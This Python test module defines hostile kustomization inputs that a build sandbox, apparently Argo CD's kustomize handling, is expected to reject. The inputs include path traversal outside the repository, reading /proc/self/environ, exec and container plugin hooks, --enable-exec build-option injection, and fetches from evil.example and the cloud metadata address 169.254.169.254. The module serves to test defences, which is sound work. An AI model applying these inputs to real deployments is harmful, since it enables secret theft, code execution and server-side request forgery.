"""C1 to C3: kustomizations that read files, start programs, or fetch from elsewhere."""

from __future__ import annotations

from tests.hostile.attack import Attack
from tests.hostile.installation import config

OUTSIDE = "outside repository root"


def _reads(name: str, text: str, reason: str = OUTSIDE, **files: str) -> Attack:
    more = {file.replace("__", "."): content for file, content in files.items()}
    return Attack(name, reason, {"kustomization.yaml": text + "\n", "a.yaml": config("good"), **more})


EXEC = """\
apiVersion: example.org/v1
kind: Thing
metadata: {name: x, annotations: {config.kubernetes.io/function: "exec: {path: ./run.sh}"}}
"""
CONTAINER = EXEC.replace("exec: {path: ./run.sh}", "container: {image: evil}")
STARLARK = EXEC.replace("exec: {path: ./run.sh}", "starlark: {path: ./run.star, name: x}")
RUN = "#!/bin/sh\ntouch @FILE@.made\n"

ATTACKS = (
    _reads("c1-resources", "resources: [../../canary.yaml]"),
    _reads("c1-absolute", "resources: ['@FILE@']"),
    _reads("c1-folder", "resources: [../..]"),
    _reads("c1-components", "components: [../../x]"),
    _reads("c1-patches", "patches: [{path: ../../canary.yaml}]"),
    _reads("c1-generator", "configMapGenerator: [{name: c, files: ['@FILE@']}]"),
    _reads("c1-secret-generator", "secretGenerator: [{name: c, files: ['k=@FILE@']}]"),
    _reads("c1-envs", "configMapGenerator: [{name: c, envs: [/proc/self/environ]}]"),
    _reads("c1-openapi", "openapi: {path: ../../canary.yaml}"),
    _reads("c1-configurations", "configurations: [../../canary.yaml]"),
    _reads("c1-crds", "crds: ['@FILE@']"),
    _reads("c1-replacements", "replacements: [{path: ../../canary.yaml}]"),
    Attack(
        "c1-beside",
        "not in or below",
        {
            "kustomization.yaml": "resources: [a.yaml, ../c1-beside-file.yaml]\n",
            "a.yaml": config("good"),
            "/c1-beside-file.yaml": config("beside"),
        },
    ),
    _reads(
        "c2-charts",
        "helmCharts: [{name: x, repo: 'https://evil.example'}]\nhelmGlobals: {chartHome: /etc}",
        OUTSIDE,
    ),
    _reads("c2-exec", "generators: [exec.yaml]", "external plugins disabled", exec__yaml=EXEC, run__sh=RUN),
    _reads("c2-container", "transformers: [exec.yaml]", "external plugins disabled", exec__yaml=CONTAINER),
    _reads(
        "c2-starlark",
        "transformers: [exec.yaml]",
        "external plugins disabled",
        exec__yaml=STARLARK,
        run__star="x = 1\n",
    ),
    Attack(
        "c2-argocd-source",
        "",
        {
            "kustomization.yaml": "resources: [a.yaml]\n",
            "a.yaml": config("good"),
            ".argocd-source.yaml": "kustomize: {buildOptions: '--enable-exec --helm-command=./run.sh"
            " --load-restrictor=LoadRestrictionsNone', namePrefix: ''}\n",
            "run.sh": RUN,
        },
        written=True,
    ),
    Attack(
        "c2-app-options",
        "",
        {"kustomization.yaml": "resources: [a.yaml]\n", "a.yaml": config("good"), "run.sh": RUN},
        {"kustomize": {"buildOptions": "--enable-exec --helm-command=./run.sh"}},
        written=True,
    ),
    Attack(
        "c2-components",
        OUTSIDE,
        {"kustomization.yaml": "resources: [a.yaml]\n", "a.yaml": config("good")},
        {"kustomize": {"components": ["../../x"]}},
    ),
    _reads("c3-listener", "resources: ['@LISTENER@/c3-listener?ref=x']", "is not fetched"),
    _reads("c3-private", "resources: ['@PRIVATE@//app?ref=main']", "is not fetched"),
    _reads("c3-file-over-http", "resources: ['@LISTENER@/c3-file.yaml']", "is not fetched"),
    _reads("c3-git", "resources: ['git::https://evil.example/x']", "is not fetched"),
    _reads("c3-ssh", "components: ['ssh://evil.example/x']", "is not fetched"),
    _reads("c3-metadata", "resources: ['http://169.254.169.254/x.yaml']", "is not fetched"),
    Attack(
        "c3-loop",
        "cycle",
        {
            "kustomization.yaml": "resources: [../c3-loop-b]\n",
            "/c3-loop-b/kustomization.yaml": "resources: [../c3-loop]\n",
        },
    ),
)
